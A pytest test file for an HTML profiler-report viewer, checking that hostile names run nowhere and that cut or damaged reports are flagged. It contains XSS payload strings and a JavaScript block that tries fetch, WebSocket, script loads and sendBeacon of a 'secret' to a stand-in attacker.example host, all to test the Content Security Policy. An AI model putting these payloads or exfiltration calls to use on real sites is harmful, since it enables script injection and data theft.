"""Hostile and damaged recordings and files: nothing runs, and the page reports the problem."""

from __future__ import annotations

import contextlib
import socket
import sqlite3
import threading
from contextlib import closing

import pytest

import warpline

NAMES = (
    "</script><script>window.pwned = 1</script>",
    '"><img src=x onerror="window.pwned = 2">',
    "<svg onload=window.pwned=3><style>*{display:none}</style>",
    "\u202egnp.exe\u2066",
    "before\x00after\x1b[31m",
    "k" * 10_000,
    "javascript:window.pwned=4",
    "<!--<script>",
    "{{7*7}} ${7*7} %s",
    "__proto__",
    "\u2028\u2029\ufeff\u200b",
)


@pytest.fixture
def hostile(attacked, tmp_path):
    """The report of a recording in which every name is an attack."""
    with closing(sqlite3.connect(attacked)) as connection, connection:
        ids = [row[0] for row in connection.execute("SELECT id FROM StringIds ORDER BY id")]
        used = [
            NAMES[place % len(NAMES)] + (f" {place}" if place >= len(NAMES) else "")
            for place in range(len(ids))
        ]
        connection.executemany(
            "UPDATE StringIds SET value = ? WHERE id = ?", zip(used, ids, strict=True)
        )
        connection.execute("UPDATE NVTX_EVENTS SET text = ? || rowid, textId = NULL", (NAMES[0],))
        connection.execute("UPDATE TARGET_INFO_GPU SET name = ?", (NAMES[1],))
        connection.execute("UPDATE PROCESSES SET name = ?", (NAMES[2],))
    path = tmp_path / "<img src=x onerror=window.pwned=5>.html"
    return warpline.report(warpline.open(attacked), path)


def assert_harmless(viewer):
    assert viewer.page.evaluate("() => window.pwned") is None
    assert viewer.page.evaluate("() => ({}).pwned") is None
    strange = "img, iframe, object, embed, form:not(.note), link, #warpline-app script, [onerror]"
    assert viewer.find(strange).count() == 0
    shown = viewer.find("body").inner_text()
    for unseen in "\x00\x1b\u202e\u2066\u2028\ufeff\u200b":
        assert unseen not in shown


def test_names_run_nowhere_and_are_seen(viewer, hostile):
    viewer.page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    viewer.open(hostile, "")
    assert_harmless(viewer)
    viewer.press("2")
    viewer.drawn()
    for row_id in ("gpu0/stream0", "thread0/range", "gpu0/phase0"):
        x, y, width, height = viewer.row_box(row_id)
        for part in (0.2, 0.5, 0.7):
            viewer.page.mouse.move(x + part * width, y + height / 2)
            viewer.page.mouse.click(x + part * width, y + height / 2)
            viewer.frame()
            assert_harmless(viewer)
    viewer.wait("model.selected.value !== null")
    assert NAMES[0] in viewer.find("[aria-label='Selected event'] h3").inner_text()
    for tab in viewer.find("[role=tab]").all():
        tab.click()
        viewer.settle()
        assert_harmless(viewer)
    viewer.find("#warpline-search").fill(NAMES[1])
    viewer.press("Enter", "Escape", "b")
    viewer.wait("document.activeElement.closest('.note')")
    viewer.page.keyboard.type(NAMES[1])
    viewer.press("Enter", "m", "r", "p", "n", "n")
    assert_harmless(viewer)
    assert NAMES[1] in viewer.find(".bookmarks").inner_text()


def test_tables_of_hostile_names(viewer, hostile):
    viewer.open(hostile, "#k")
    for address in ("#k", "#k?k=cuda_gpu_kern_sum", "#k?k=nvtx_sum", "#e"):
        viewer.turn(address)
        viewer.find("#warpline-app main section").first.wait_for()
        assert_harmless(viewer)
        shown = viewer.find("#warpline-app").inner_text()
        assert any(name[:20] in shown for name in NAMES)


@pytest.fixture
def attacker():
    """A server that records requests; its address, and the requests."""
    calls = []
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.05)
    ended = threading.Event()

    def count():
        while not ended.is_set():
            with contextlib.suppress(TimeoutError):
                connection, _ = listener.accept()
                connection.settimeout(1)
                with connection, contextlib.suppress(OSError):
                    calls.append(connection.recv(1000))

    thread = threading.Thread(target=count)
    thread.start()
    yield f"http://attacker.example:{listener.getsockname()[1]}", calls
    ended.set()
    thread.join()
    listener.close()


ATTEMPTS = """async (url) => {
  const through = [];
  const attempt = (name, run) => Promise.resolve().then(run).then(
    () => through.push(name), () => undefined);
  const heard = (target, good, bad) => new Promise((done, fail) => {
    target[good] = done;
    target[bad] = fail;
  });
  const element = (tag, attributes) => {
    const made = Object.assign(document.createElement(tag), attributes);
    const result = heard(made, "onload", "onerror");
    document.body.append(made);
    return result;
  };
  await attempt("fetch", () => fetch(url, { mode: "no-cors" }));
  const socket = () => new WebSocket(url.replace("http", "ws"));
  await attempt("socket", () => heard(socket(), "onopen", "onerror"));
  await attempt("image", () => element("img", { src: url }));
  await attempt("script", () => element("script", { src: url }));
  await attempt("style", () => element("link", { rel: "stylesheet", href: url }));
  await attempt("worker", () =>
    heard(new Worker("data:text/javascript,postMessage(1)"), "onmessage", "onerror"));
  navigator.sendBeacon(url, "secret");
  return through;
}"""


def test_a_script_that_gets_in_all_the_same_reaches_nothing(
    open_viewer, hostile, tmp_path, attacker
):
    """The policy is the second line of defense, here against markup that was not escaped."""
    url, calls = attacker
    viewer = open_viewer()
    path = tmp_path / "changed.html"
    attack = f"<script>window.pwned = 1</script><img src='{url}/x'>"
    text = hostile.read_text()
    assert text.count('<div id="warpline-app">') == 1
    path.write_text(text.replace('<div id="warpline-app">', f'{attack}<div id="warpline-app">'))
    viewer.open(path)
    assert viewer.page.evaluate("() => window.pwned") is None
    assert len([one for one in viewer.problems if "Content Security Policy" in one]) >= 2
    assert viewer.page.evaluate(ATTEMPTS, url) == []
    assert calls == []
    # Without a policy the attempts succeed.
    free = open_viewer(bypass_csp=True)
    free.open(path)
    assert "worker" in free.page.evaluate(ATTEMPTS, url)
    assert any(call.startswith(b"GET / ") for call in calls)


# Cut in its events, and in its script: the others are cut in the same parts.
CUTS = (0.7, 0.3, *(pytest.param(part, marks=pytest.mark.thorough) for part in (0.97, 0.5, 0.1)))


@pytest.mark.parametrize("part", CUTS)
def test_a_report_that_was_cut_says_so(open_viewer, report, tmp_path, part):
    whole = report("nsys/rich_metrics_sampling").read_bytes()
    path = tmp_path / "cut.html"
    path.write_bytes(whole[: int(len(whole) * part)])
    viewer = open_viewer()
    viewer.page.goto(path.as_uri() + "#t")
    viewer.find("#warpline-incomplete").wait_for()
    assert "incomplete" in viewer.find("#warpline-incomplete").inner_text()
    has_script = part >= 0.5
    drawn = viewer.find(
        "canvas[role=application]" if has_script else "#warpline-static .wl-verdict"
    )
    assert drawn.is_visible()
    assert not [one for one in viewer.problems if one.startswith("thrown")]


def test_a_whole_report_does_not_call_itself_incomplete(viewer, report):
    viewer.open(report("nsys/rich_metrics_sampling"), "")
    assert viewer.find("#warpline-incomplete").count() == 1
    # The message would appear after a delay: test the style rule instead.
    style = "one => getComputedStyle(one).display"
    assert viewer.find("#warpline-incomplete").evaluate(style) == "none"


def test_rows_of_a_damaged_block_say_so(open_viewer, report, tmp_path):
    text = report("nsys/rich_metrics_sampling").read_text()
    start = text.index('data-block="2">') + len('data-block="2">')
    path = tmp_path / "damaged.html"
    path.write_text(text[: start + 5000] + "A" * 400 + text[start + 5400 :])
    viewer = open_viewer()
    viewer.page.goto(path.as_uri() + "#t")
    viewer.find(".banner[role=alert]").wait_for()
    assert "could not be read" in viewer.find(".banner[role=alert]").inner_text()
    broken = viewer.find(".row-label:has(.broken)")
    broken.first.wait_for()
    assert "damaged or truncated" in (broken.first.get_attribute("title") or "")
    assert not [one for one in viewer.problems if one.startswith("thrown")]
